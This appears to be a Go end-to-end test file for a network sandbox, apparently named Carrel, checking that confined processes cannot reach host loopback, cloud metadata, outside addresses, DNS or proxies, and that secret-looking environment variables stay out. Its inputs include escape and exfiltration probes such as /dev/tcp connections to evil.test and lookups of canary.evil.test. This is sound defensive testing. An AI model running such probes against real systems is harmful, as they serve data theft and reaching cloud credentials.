//go:build linux

package e2e

import (
	"fmt"
	"net"
	"os"
	"strings"
	"testing"
)

// listen opens a server of the host that answers every connection with the
// canary, and counts them.
func (h *host) listen(network, address string) (addr string, seen func() int) {
	h.Helper()
	l, err := net.Listen(network, address)
	if err != nil {
		h.Fatal(err)
	}
	h.Cleanup(func() { _ = l.Close() })
	count := make(chan int, 1)
	count <- 0
	go func() {
		for {
			c, err := l.Accept()
			if err != nil {
				return
			}
			count <- 1 + <-count
			_, _ = fmt.Fprintf(c, "HTTP/1.0 200 OK\r\nContent-Length: %d\r\n\r\n%s", len(canary), canary)
			_ = c.Close()
		}
	}()
	return l.Addr().String(), func() int { n := <-count; count <- n; return n }
}

// udp opens a datagram socket of the host that counts what arrives.
func (h *host) udp() (addr string, seen func() int) {
	h.Helper()
	c, err := net.ListenPacket("udp", "127.0.0.1:0")
	if err != nil {
		h.Fatal(err)
	}
	h.Cleanup(func() { _ = c.Close() })
	count := make(chan int, 1)
	count <- 0
	go func() {
		b := make([]byte, 512)
		for {
			_, from, err := c.ReadFrom(b)
			if err != nil {
				return
			}
			count <- 1 + <-count
			_, _ = c.WriteTo([]byte("answer"), from)
		}
	}()
	return c.LocalAddr().String(), func() int { n := <-count; count <- n; return n }
}

// outward is an address of this machine that is not loopback, or "".
func outward() string {
	addrs, _ := net.InterfaceAddrs()
	for _, a := range addrs {
		if n, ok := a.(*net.IPNet); ok && n.IP.To4() != nil && !n.IP.IsLoopback() {
			return n.IP.String()
		}
	}
	return ""
}

func TestHostLoopbackIsNotReached(t *testing.T) {
	asEachUser(t, func(h *host) {
		addr, seen := h.listen("tcp", "127.0.0.1:0")
		_, port, _ := net.SplitHostPort(addr)
		targets := []string{addr, "localhost:" + port, "[::1]:" + port, "[::ffff:127.0.0.1]:" + port, "0.0.0.0:" + port, "127.9.9.9:" + port}
		if own := outward(); own != "" {
			targets = append(targets, own+":"+port)
		}
		for _, target := range targets {
			r := h.probe("tcp", target)
			h.expect(r, 1)
			h.unseen(r)
		}
		if seen() != 0 {
			h.Errorf("%d connections arrived", seen())
		}
		h.expect(h.start("", probeBin, "tcp", addr, "x"), 0, canary) // outside it answers
		h.expect(h.probe("listen"), 0, "hello")                      // and inside the desk's own servers do
	})
}

func TestHostServiceIsTheOneThatWasGiven(t *testing.T) {
	asEachUser(t, func(h *host) {
		addr, seen := h.listen("tcp", "127.0.0.1:0")
		other, otherSeen := h.listen("tcp", "127.0.0.1:0")
		_, port, _ := net.SplitHostPort(addr)
		_, otherPort, _ := net.SplitHostPort(other)
		run := func(target string) result {
			return h.carrel("run", "--host-service", "db="+addr, "--", probeBin, "tcp", target, "GET / HTTP/1.0\r\n\r\n")
		}
		h.expect(run("db.desk:"+port), 0, canary)
		if seen() != 1 {
			h.Errorf("%d connections arrived, want 1", seen())
		}
		h.expect(run("db.desk:"+otherPort), 1)
		h.expect(run("127.0.0.1:"+otherPort), 1)
		if otherSeen() != 0 {
			h.Error("another service was reached")
		}
	})
}

// refusedAtOnce wants the probe to have been refused, and not by a time-out, as
// it tells it itself: a busy machine starts a run slowly.
func (h *host) refusedAtOnce(target string, r result) {
	h.Helper()
	var ms int
	_, after, _ := strings.Cut(r.out, "refused after ")
	if _, err := fmt.Sscanf(after, "%d ms", &ms); err != nil || ms > 3000 {
		h.Errorf("%s was not refused at once: %s", target, r)
	}
}

// Every row must fail, and fast: not by a time-out.
func TestNothingLeavesByAddress(t *testing.T) {
	asEachUser(t, func(h *host) {
		for _, target := range []string{
			"192.0.2.1:443", "192.0.2.1:80", "192.0.2.1:22", "10.0.0.1:443", "192.168.1.1:80", "100.64.0.1:80", "169.254.169.254:80",
			"[2001:db8::1]:443", "[fd00:ec2::254]:80", "198.18.0.1:443", "224.0.0.1:80", "192.0.2.1:853",
		} {
			r := h.probe("tcp", target, "GET / HTTP/1.0\r\n\r\n")
			h.expect(r, 1, "refused after")
			h.refusedAtOnce(target, r)
		}
		// Without netfilter they are refused by the lack of a route, as doctor says.
		if !h.refusedRecord("connect", "") && !h.lacks("netfilter") {
			h.Error("no refusal is recorded")
		}
	})
}

func TestMetadataAddressIsNeverAllowed(t *testing.T) {
	h := asUser(t)
	for _, args := range [][]string{{"--allow", "169.254.169.254:80"}, {"--allow", "metadata.google.internal:80"}, {"--host-service", "m=169.254.169.254:80"}} {
		r := h.carrel(append(append([]string{"run"}, args...), "--", probeBin, "tcp", "169.254.169.254:80", "GET / HTTP/1.0\r\n\r\n")...)
		if r.code == 0 && !strings.Contains(r.out, "403 Forbidden") {
			h.Errorf("%v: %s", args, r)
		}
	}
}

func TestNamesDoNotLeaveTheMachine(t *testing.T) {
	asEachUser(t, func(h *host) {
		r := h.inside("getent hosts " + canary + ".evil.test; " + probeBin + " resolve " + canary + ".evil.test; grep nameserver /etc/resolv.conf")
		if strings.Contains(r.out, "worked") {
			h.Errorf("a name was resolved\n%s", r)
		}
		if !h.refusedRecord("resolve", canary+".evil.test") {
			h.Error("the refusal is not recorded")
		}
	})
}

func TestDatagramsAreRefusedAtOnce(t *testing.T) {
	asEachUser(t, func(h *host) {
		addr, seen := h.udp()
		h.expect(h.start("", probeBin, "udp", addr, canary), 0, "answer")
		for _, target := range []string{addr, "192.0.2.1:5353", "8.8.8.8:853", "192.0.2.1:443", "224.0.0.251:5353", "[2001:db8::1]:53"} {
			r := h.probe("udp", target, canary)
			h.expect(r, 1)
			h.refusedAtOnce(target, r)
		}
		// Port 53 is led to Carrel's own resolver, whatever the address.
		h.expect(h.probe("udp", "8.8.8.8:53", canary), 0)
		if seen() != 1 {
			h.Errorf("%d datagrams arrived, want the one from outside", seen())
		}
	})
}

func TestAllowedIsNotMoreThanWasSaid(t *testing.T) {
	asEachUser(t, func(h *host) {
		r := h.carrel("run", "--allow", "ok.test:443", "--ro", probeBin, "--", "bash", "-c",
			"getent hosts ok.test; getent hosts evil.ok.test; getent hosts ok.test.evil.test; getent ahostsv6 ok.test; "+probeBin+" tcp ok.test:80; true")
		h.expect(r, 0, "198.18.")
		if strings.Count(r.out, " ok.test\n") != 1 || strings.Contains(r.out, "worked") {
			h.Errorf("more was reached than was allowed\n%s", r)
		}
	})
}

func TestNetworkIsClosedBeforeTheFirstInstruction(t *testing.T) {
	h := asUser(t)
	addr, seen := h.listen("tcp", "127.0.0.1:0")
	for range 10 {
		h.expect(h.probe("tcp", addr, "x"), 1)
	}
	if seen() != 0 {
		h.Errorf("%d connections arrived", seen())
	}
}

func TestProxyVariablesDoNotEnter(t *testing.T) {
	h := asUser(t)
	addr, seen := h.listen("tcp", "127.0.0.1:0")
	h.env = append(h.env, "HTTPS_PROXY=http://"+addr, "ALL_PROXY=socks5://"+addr, "AWS_SECRET_ACCESS_KEY="+canary, "GITHUB_TOKEN="+canary, "SSH_AUTH_SOCK="+h.dir+"/agent", "DOCKER_HOST=tcp://"+addr)
	r := h.inside("env; echo end")
	h.expect(r, 0, "end")
	h.unseen(r)
	for _, name := range []string{"HTTPS_PROXY", "SSH_AUTH_SOCK", "DOCKER_HOST"} {
		if strings.Contains(r.out, name+"=") {
			h.Errorf("%s entered", name)
		}
	}
	if seen() != 0 {
		h.Error("the proxy was asked")
	}
	h.expect(h.inside("echo $PASSED", "--env", "PASSED=yes"), 0, "yes")
	named := h.inside("echo $GITHUB_TOKEN", "--env", "GITHUB_TOKEN")
	h.expect(named, 0, canary)
	if !strings.Contains(named.err, "GITHUB_TOKEN") {
		h.Errorf("what looks like a secret is not named\n%s", named)
	}
}

func TestDenialsInALoopDoNotFillTheLog(t *testing.T) {
	h := asUser(t)
	before := size(h.dir + "/state")
	h.expect(h.inside("for i in $(seq 3000); do true </dev/tcp/192.0.2.1/443; true </dev/tcp/evil.test/443; done 2>/dev/null; true"), 0)
	if grown := size(h.dir+"/state") - before; grown > 4<<20 {
		h.Errorf("the state grew by %d bytes", grown)
	}
	counted := int64(0)
	for _, r := range h.records() {
		if r.Kind == "refused" {
			counted += 1 + r.Repeats
		}
	}
	if counted < 3000 {
		h.Errorf("%d refusals are counted, want at least 3000", counted)
	}
}

func size(dir string) (total int64) {
	entries, _ := os.ReadDir(dir)
	for _, e := range entries {
		if e.IsDir() {
			total += size(dir + "/" + e.Name())
		} else if info, err := e.Info(); err == nil {
			total += info.Size()
		}
	}
	return total
}
